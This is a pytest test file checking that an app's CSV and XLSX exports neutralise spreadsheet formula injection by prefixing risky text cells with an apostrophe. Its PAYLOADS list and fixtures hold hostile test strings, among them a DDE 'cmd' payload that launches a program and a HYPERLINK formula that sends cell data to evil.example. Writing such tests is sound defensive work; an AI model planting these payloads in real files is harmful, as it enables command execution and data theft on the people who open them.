"""The spreadsheet formula guard: no exported text cell runs as a formula in Excel or
LibreOffice (CSV and XLSX, the agency's lists and the customer's appointment list)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.helpers import client_for, db_session
from tests.visibility_helpers import Rows, confirmed_names, expected_appointments

#: Known injection payloads: each starts with a character a spreadsheet reads as a formula.
PAYLOADS = [
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    '-(1)+HYPERLINK("http://x","y")',
    "@SUM(1)",
    "=1+1",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "+49 40 123456",  # a phone number is text, too: guarded the same way
    "-",
]
HARMLESS = ["Media Markt", "Köln 'Süd'", "1+1", "a=b", " =1 ", ""]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _xlsx_cells(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def test_formula_safe_guards_text_only():
    from app.transfer.tables import formula_safe, unquote_formula

    for payload in PAYLOADS:
        assert formula_safe(payload) == "'" + payload
        assert unquote_formula(formula_safe(payload)) == payload  # the import reads it back
    for text in HARMLESS:
        assert formula_safe(text) == text
    for value in (-5, -2.5, Decimal("-1.50"), 0, None, dt.date(2026, 1, 1), dt.time(10, 0)):
        assert formula_safe(value) is value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_written_files_neutralise_every_payload_and_keep_numbers(app, fmt):
    from app.transfer.tables import write_file

    rows = [[payload, -5, 3.5, "x"] for payload in PAYLOADS] + [[text, 0, -0.5, "y"] for text in HARMLESS]
    with app.test_request_context():
        data = write_file(fmt, ["Text", "Zahl", "Dezimal", "Rest"], rows)
    if fmt == "csv":
        body = _csv_cells(data)[1:]
        for payload, row in zip(PAYLOADS, body, strict=False):
            assert row[0] == "'" + payload
            assert row[1] == "-5" and row[2] == "3.5"
        for text, row in zip(HARMLESS, body[len(PAYLOADS) :], strict=True):
            assert row[0] == text and row[2] == "-0.5"
    else:
        body = _xlsx_cells(data)[1:]
        for payload, row in zip(PAYLOADS, body, strict=False):
            # A formula cell would have type "f"; these are text with the apostrophe
            # (XML reads a carriage return back as a line feed).
            assert row[0] == ("'" + payload.replace("\r", "\n"), "s")
            assert row[1] == (-5, "n") and row[2] == (3.5, "n")
        for text, row in zip(HARMLESS, body[len(PAYLOADS) :], strict=True):
            assert row[0][0] == (text or None) and row[0][1] != "f"
            assert row[2] == (-0.5, "n")


@pytest.fixture(scope="module")
def hostile(app):
    """A store and a promoter whose names are formula payloads."""
    from app.models.crm import Location
    from app.models.planning import Booking
    from app.models.promoter import Promoter

    rows = Rows(app)
    tag = uuid.uuid4().hex[:8]
    store = rows.add(
        Location,
        name=f"=1+1 {tag}",
        street="-2+3+cmd|' /C calc'!A0",
        postcode="20095",
        city=f"@SUM(1) {tag}",
        federal_state="HH",
    )
    with db_session(app) as session:
        candidates = expected_appointments(session, "adm.nord")
        booked = confirmed_names(session, [a.id for a in candidates])
        # One without other promoters, so that the hostile name starts the cell.
        visible = next(a for a in candidates if not booked.get(a.id))
    promoter = rows.add(Promoter, first_name=f"+1+1{tag}", last_name="Muster", active=True)
    rows.add(Booking, appointment_id=visible.id, promoter_id=promoter, status="confirmed")
    yield {"tag": tag, "store": store, "appointment": visible}
    rows.cleanup()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_agency_location_export_is_guarded(app, hostile, fmt):
    response = client_for(app, "agentur").get(f"/transfer/export?what=locations&format={fmt}")
    assert response.status_code == 200
    data = response.get_data()
    if fmt == "csv":
        (row,) = [r for r in _csv_cells(data) if hostile["tag"] in r[0]]
        assert row[0] == f"'=1+1 {hostile['tag']}" and row[2] == "'-2+3+cmd|' /C calc'!A0"
        assert row[4] == f"'@SUM(1) {hostile['tag']}"
    else:
        (row,) = [r for r in _xlsx_cells(data) if hostile["tag"] in str(r[0][0])]
        assert row[0] == (f"'=1+1 {hostile['tag']}", "s") and row[2] == ("'-2+3+cmd|' /C calc'!A0", "s")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_customer_export_is_guarded(app, hostile, fmt):
    from app.models.planning import Appointment

    with db_session(app) as session:
        store = session.scalar(select(Appointment.job_id).where(Appointment.id == hostile["appointment"].id))
    day = hostile["appointment"].date.isoformat()
    response = client_for(app, "adm.nord").get(
        f"/portal/appointments/export.{fmt}?job={store}&range=custom&date_from={day}&date_to={day}"
    )
    assert response.status_code == 200, response.status_code
    data = response.get_data()
    cells = [c for row in _csv_cells(data) for c in row] if fmt == "csv" else None
    if fmt == "xlsx":
        cells = [value for row in _xlsx_cells(data) for value, _type in row]
    names = [c for c in cells if isinstance(c, str) and hostile["tag"] in c]
    assert names, "the hostile promoter is in the export"
    assert all(c.startswith("'+1+1") for c in names), names


def test_the_guard_in_sql_matches_the_guard_in_python(app):
    """The agency's appointment CSV guards its text in the query (no Python per cell): the
    SQL guard answers exactly what :func:`formula_safe` answers, on this database."""
    from sqlalchemy import literal

    from app.transfer.exports import _sql_formula_safe
    from app.transfer.tables import formula_safe

    with db_session(app) as session:
        for text in PAYLOADS + HARMLESS:
            assert session.scalar(select(_sql_formula_safe(literal(text)))) == formula_safe(text), repr(text)


def test_the_agency_appointment_csv_is_guarded_and_as_before(app, hostile):
    """The appointment CSV finished by the database: the hostile promoter's cell is guarded,
    and the whole file is byte for byte what the generic writer makes of the same rows
    (German dates and times, statuses in words, promoters with "(Angefragt)")."""
    from flask_babel import force_locale

    from app.transfer import exports
    from app.transfer.tables import iter_csv

    response = client_for(app, "agentur").get("/transfer/export?what=appointments&format=csv")
    assert response.status_code == 200
    data = response.get_data()
    (row,) = [r for r in _csv_cells(data) if hostile["tag"] in r[-1]]
    cell = row[-1]  # the hostile name among the appointment's promoters, in booking order
    unguarded = cell[1:] if cell.startswith("'") else cell
    assert f"+1+1{hostile['tag']} Muster" in unguarded.split(", "), cell
    # guarded exactly when the cell would start a formula
    assert cell.startswith("'") == unguarded.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert row[0] == hostile["appointment"].date.strftime("%d.%m.%Y")
    with app.test_request_context(), force_locale("de"), db_session(app) as session:
        header, rows = exports.appointments(session)
        before = b"".join(iter_csv(header, rows))

    assert data == before
